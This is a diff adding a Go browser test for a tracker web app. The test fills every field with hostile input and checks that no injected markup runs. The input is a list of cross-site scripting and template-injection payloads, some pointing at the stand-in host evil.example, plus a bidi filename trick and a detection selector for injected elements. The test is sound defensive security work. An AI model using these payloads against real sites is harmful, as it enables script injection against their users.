@@ -1,0 +1,165 @@
+package ui_test
+
+import (
+	"fmt"
+	"net/url"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/chromedp/chromedp"
+
+	"tracker/store"
+)
+
+// hostile is what somebody writes who wants a page to do what it should not.
+// Each of them would set the marker, ask another host, or break a script.
+var hostile = []string{
+	`<script>window.hacked=1</script>`,
+	`"><img src=x onerror="window.hacked=2">`,
+	`' autofocus onfocus='window.hacked=3' x='`,
+	`</bdi></title></textarea></style></pre><svg onload=window.hacked=4>`,
+	`</script><script src="https://evil.example/x.js"></script>`,
+	`javascript:window.hacked=6//`,
+	`x" style="background:url(https://evil.example/7.png)" y="`,
+	`};body{background:url(https://evil.example/8.png)}/*<style>@import "https://evil.example/8.css";</style>`,
+	`<iframe srcdoc="<script>parent.hacked=9</script>"></iframe><base href="https://evil.example/">`,
+	"`);window.hacked=10;//${window.hacked=10}{{constructor.constructor('window.hacked=10')()}}",
+	`[x](javascript:window.hacked=11) ![x](https://evil.example/11.png) <https://x.example/"onclick=window.hacked=11>`,
+	`<meta http-equiv="refresh" content="0;url=https://evil.example/12"><form action="https://evil.example/12">`,
+	`שלום %s & &lt;script&gt; \u003cscript\u003e %3Cscript%3E \0 ' -- ; ../../x # ? a/b`,
+	`__proto__`,
+	`constructor`,
+}
+
+// bidi turns the direction of what follows; only texts may have it.
+const bidi = "\u202egnp.exe\u2066 \u0000\u0007"
+
+// fileName makes a name of an artifact, which is a path.
+var fileName = strings.NewReplacer("/", "|", `\`, "|")
+
+// injected counts what none of the pages has of its own.
+const injected = `(window.hacked === undefined ? '' : 'hacked ' + window.hacked) + [...document.querySelectorAll(
+	'script:not([src]), img, iframe, base, object, embed, style, meta[http-equiv], form[action*="evil"], [onerror], [onload], [onfocus], [onclick], [srcdoc], [href^="javascript" i]')]
+	.map((e) => e.outerHTML.slice(0, 120)).join('\n')`
+
+// TestHostileText fills every field that is shown, and opens each page.
+func TestHostileText(t *testing.T) {
+	t.Parallel()
+	s := start(t, setup{auth: true})
+	ctx, alice := t.Context(), s.actor("alice")
+	s.clock.move(time.Since(s.clock.now()))
+	b := s.openBrowser(t)
+	b.signIn(s, "alice")
+	b.do(chromedp.EmulateViewport(1280, 6000)) // charts are drawn when they come into sight
+
+	first := must(s.db.CreateProject(ctx, alice, store.NewProject{Name: hostile[0], Description: hostile[1]}))(t)
+	experiment := must(s.db.CreateExperiment(ctx, alice, first.ID, store.NewExperiment{Name: hostile[2], Description: hostile[3]}))(t)
+	paths := []string{"/", "/users", "/project/" + first.ID + "/models", "/experiment/" + experiment.ID + "/artifacts", "/project/" + first.ID + "/members", "/change?", "/delete?", "/compare?"}
+	var runs []string
+	for i, bad := range hostile {
+		p := must(s.db.CreateProject(ctx, alice, store.NewProject{Name: bad, Description: bad + bidi}))(t)
+		e := must(s.db.CreateExperiment(ctx, alice, p.ID, store.NewExperiment{Name: bad, Description: bad + bidi}))(t)
+		u := must(s.db.CreateUser(ctx, alice, store.NewUser{Username: bad, Password: password, FirstName: bad, LastName: bad}))(t)
+		must(s.db.CreateUserPermission(ctx, alice, u.ID, first.ID, store.PermissionPatch{}))(t)
+		n := store.NewIteration{Name: new(bad), Notes: bad + bidi + "\n\n<b onclick=window.hacked=1>b</b>\n\n```" + bad + "\n" + bad + "\n```\n"}
+		if i > 0 {
+			n.ParentIterationID = &runs[i-1]
+		}
+		id := s.run(experiment.ID, n)
+		runs = append(runs, id)
+		must(s.db.CreateTag(ctx, alice, store.IterationTag, id, bad))(t)
+		must(s.db.CreateTag(ctx, alice, store.ProjectTag, p.ID, bad))(t)
+		must(s.db.CreateTag(ctx, alice, store.ExperimentTag, e.ID, bad))(t)
+		must(s.db.CreateParameter(ctx, alice, id, bad, store.Text(bad+bidi)))(t)
+		must(s.db.CreateParameter(ctx, alice, id, "lr", store.Text(fmt.Sprint(i))))(t)
+		must(s.db.CreateSnapshot(ctx, alice, id, store.NewSnapshot{GitSHA: bad, GitRemote: bad, GitDiff: bad + bidi, Entrypoint: bad,
+			Command: bad, Hostname: bad, Runtime: bad, Dependencies: bad}))(t)
+		m := must(s.db.CreateModel(ctx, alice, first.ID, store.NewModel{Name: bad, Description: bad}))(t)
+		must(s.db.CreateModelVersion(ctx, alice, m.ID, store.NewModelVersion{IterationID: id, Description: bad}))(t)
+		content := must(s.db.Receive(ctx, strings.NewReader(bad), ""))(t)
+		a := must(s.db.CreateResource(ctx, alice, experiment.ID, store.NewResource{Name: "a " + fileName.Replace(bad), Description: bad, IterationID: id, ContentType: "text/html"}, content))(t)
+		s.log(id, bad, 3+i)
+		if i%2 == 1 {
+			patch := store.IterationPatch{Status: new(store.Failed), ErrorMessage: new(bad + bidi)}
+			if err := s.db.UpdateIteration(ctx, alice, id, patch); err != nil {
+				t.Fatal(err)
+			}
+		}
+		q := url.QueryEscape(bad)
+		if i%3 == 0 {
+			paths = append(paths, "/project/"+p.ID, "/experiment/"+e.ID, "/user/"+u.ID, "/model/"+m.ID, "/artifact/"+a.ID,
+				"/project/"+p.ID+"/settings", "/experiment/"+e.ID+"/settings")
+		}
+		paths = append(paths, "/iteration/"+id, "/project/"+first.ID+"?q="+q,
+			"/experiment/"+experiment.ID+"?"+url.Values{"filter": {bad}, "sort": {bad}, "columns": {bad}, "base": {bad}, "hide": {bad},
+				"show": {bad}, "zoom": {bad}, "smooth": {bad}, "x": {bad}, "split": {bad}, "axes": {bad}, "sx": {bad}}.Encode()+"#"+q)
+	}
+	query := "i=" + strings.Join(runs, "&i=")
+	for _, path := range paths {
+		if strings.HasSuffix(path, "?") {
+			path += query
+		}
+		t.Run(path[:min(len(path), 60)], func(t *testing.T) {
+			b.t = t
+			b.do(chromedp.Navigate(b.url + path))
+			if strings.Contains(path, "/iteration/") || strings.Contains(path, "/compare") {
+				b.is(chartsDrawn, "true")
+			}
+			b.is(injected, "")
+			b.quiet()
+		})
+	}
+	t.Run("workbench", func(t *testing.T) {
+		b.t = t
+		b.workHostile("/experiment/" + experiment.ID)
+	})
+	t.Run("signed out", func(t *testing.T) {
+		b := s.openBrowser(t)
+		for _, bad := range hostile {
+			b.do(chromedp.Navigate(b.url + "/login?next=" + url.QueryEscape("/"+bad)))
+			b.is(injected, "")
+		}
+		b.quiet()
+	})
+}
+
+// workHostile opens all that the scripts show of names: columns, tooltips, the
+// palette, mistakes, and what can be done with runs.
+func (b *browser) workHostile(path string) {
+	b.t.Helper()
+	b.do(chromedp.EmulateViewport(1280, 800), chromedp.Navigate(b.url+path))
+	b.is(rows, fmt.Sprint(len(hostile)))
+	b.is(chartsDrawn, "true")
+	b.do(chromedp.Click(chromedp.CSS(`[data-testid="choose"]`)))
+	b.is(`document.querySelectorAll('.choose .found input').length`, fmt.Sprint(2*len(hostile)+1))
+	// Every parameter and metric becomes a column.
+	b.do(chromedp.Evaluate[chromedp.Void](`for (const box of document.querySelectorAll('.choose .found input')) if (!box.checked) box.click()`))
+	b.is(`document.querySelectorAll('#table thead th').length`, fmt.Sprint(5+2*len(hostile)+1))
+	b.is(injected, "")
+	b.do(chromedp.KeyEvent("\x1b"))
+	b.is(dialogOpen, "false")
+	b.is(`document.querySelectorAll('#table tbody tr[data-id] td:nth-child(6)').length`, fmt.Sprint(len(hostile)))
+	b.do(chromedp.Evaluate[chromedp.Void](`document.querySelector('#table input').click()`))
+	b.is(`document.querySelector('#selected').hidden`, "false")
+	b.is(injected, "")
+	b.hover(`[data-testid="chart"][data-drawn="1"] .u-over`)
+	b.is(`[...document.querySelectorAll('.tip')].some((e) => !e.hidden)`, "true")
+	b.is(injected, "")
+	for _, bad := range hostile[:6] {
+		b.do(chromedp.KeyEvent("k", chromedp.KeyModifiers(chromedp.ModifierCtrl)), chromedp.WaitVisible(chromedp.CSS(`[data-testid="find-name"]`)),
+			chromedp.Evaluate[chromedp.Void](fmt.Sprintf(`{ const f = document.querySelector('[data-testid="find-name"]'); f.value = %q; f.dispatchEvent(new Event('input')) }`, bad)))
+		b.is(fmt.Sprintf(`document.querySelector('.find li bdi')?.textContent === %q`, bad), "true")
+		b.is(injected, "")
+		b.do(chromedp.KeyEvent("\x1b"))
+		b.is(dialogOpen, "false")
+	}
+	for _, bad := range hostile[:6] {
+		b.filter(b.t, "name = ")
+		b.is(wrong+`.querySelector('mark') !== null`, "true")
+		b.filter(b.t, bad)
+		b.is(`document.querySelector('#filter').getAttribute('aria-invalid')`, "true")
+		b.is(injected, "")
+	}
+	b.quiet()
+}
